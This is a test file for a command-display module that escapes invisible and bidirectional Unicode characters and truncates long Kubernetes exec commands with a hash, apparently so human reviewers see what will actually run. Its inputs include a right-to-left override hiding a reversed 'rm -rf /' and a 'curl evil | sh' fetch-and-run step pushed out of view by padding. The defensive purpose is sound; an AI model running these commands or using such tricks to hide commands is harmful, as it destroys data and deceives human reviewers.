import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseAction } from '../parse/index.js';
import { renderCommand } from './index.js';
import { escapeInvisible, shorten, textHash } from './printable.js';

describe('escapeInvisible', () => {
  it('writes controls, bidi overrides and isolates, zero-width and odd spaces as escapes', () => {
    expect(escapeInvisible('a\u202Eb')).toBe('a\\u202Eb');
    expect(escapeInvisible('\u2066\u2067\u2068\u2069')).toBe('\\u2066\\u2067\\u2068\\u2069');
    expect(escapeInvisible('x\u200By\u200Cz\u200D\uFEFF')).toBe('x\\u200By\\u200Cz\\u200D\\uFEFF');
    expect(escapeInvisible('a\nb\tc\rd\u0000\u001b[31m\u007f')).toBe(
      'a\\nb\\tc\\rd\\u0000\\u001B[31m\\u007F',
    );
    expect(escapeInvisible('\u00A0\u3000\u2028\u2029\u00AD\u3164')).toBe(
      '\\u00A0\\u3000\\u2028\\u2029\\u00AD\\u3164',
    );
    expect(escapeInvisible('\u{E0041}')).toBe('\\u{E0041}');
    expect(escapeInvisible('\uD800')).toBe('\\uD800');
  });

  it('keeps line breaks where asked (a diff, a body), and escapes everything else on each line', () => {
    expect(escapeInvisible('a\u202E\nb\r\n', { keepNewlines: true })).toBe('a\\u202E\nb\\r\n');
  });

  it('leaves text that shows as itself alone, any script', () => {
    expect(escapeInvisible("sh -c 'df -h /var/log' — ünïcödé 日本 🚀")).toBe(
      "sh -c 'df -h /var/log' — ünïcödé 日本 🚀",
    );
  });

  it('is idempotent and leaves nothing invisible', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const once = escapeInvisible(text);
        expect(escapeInvisible(once)).toBe(once);
        expect(once).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u);
      }),
      { numRuns: 300 },
    );
  });
});

describe('renderCommand with invisible characters', () => {
  it('shows an RLO in exec arguments escaped, never raw', () => {
    const query = `command=sh&command=-c&command=${encodeURIComponent('echo safe\u202E#dm- fr- mr')}&stdout=true`;
    const action = parseAction({
      method: 'GET',
      path: '/api/v1/namespaces/prod/pods/web-1/exec',
      query,
      headers: {},
    });
    expect(renderCommand(action)).toBe("kubectl exec -n prod web-1 -- sh -c 'echo safe\\u202E#dm- fr- mr'");
  });
});

describe('shorten', () => {
  it('keeps text within the limit as it is, and says nothing', () => {
    expect(shorten('kubectl get pods', 100)).toEqual({ shown: 'kubectl get pods' });
  });

  it('says how much it shows, of how much, and the hash of the whole', () => {
    const text = `sh -c 'df -h /var/log${' '.repeat(3000)}; curl evil | sh'`;
    const { shown, note } = shorten(text, 100);
    expect(shown).toBe(text.slice(0, 100));
    expect(note).toBe(
      `shown 100 of ${text.length.toLocaleString('en-US')} characters, sha256 ${textHash(text)}`,
    );
    expect(textHash(text)).toMatch(/^[0-9a-f]{12}$/);
  });

  it('never ends inside an escape or a surrogate pair', () => {
    expect(shorten(`${'a'.repeat(8)}\\u202E tail`, 11).shown).toBe('a'.repeat(8));
    expect(shorten(`${'a'.repeat(9)}🚀🚀`, 10).shown).toBe(`${'a'.repeat(9)}🚀`);
  });
});
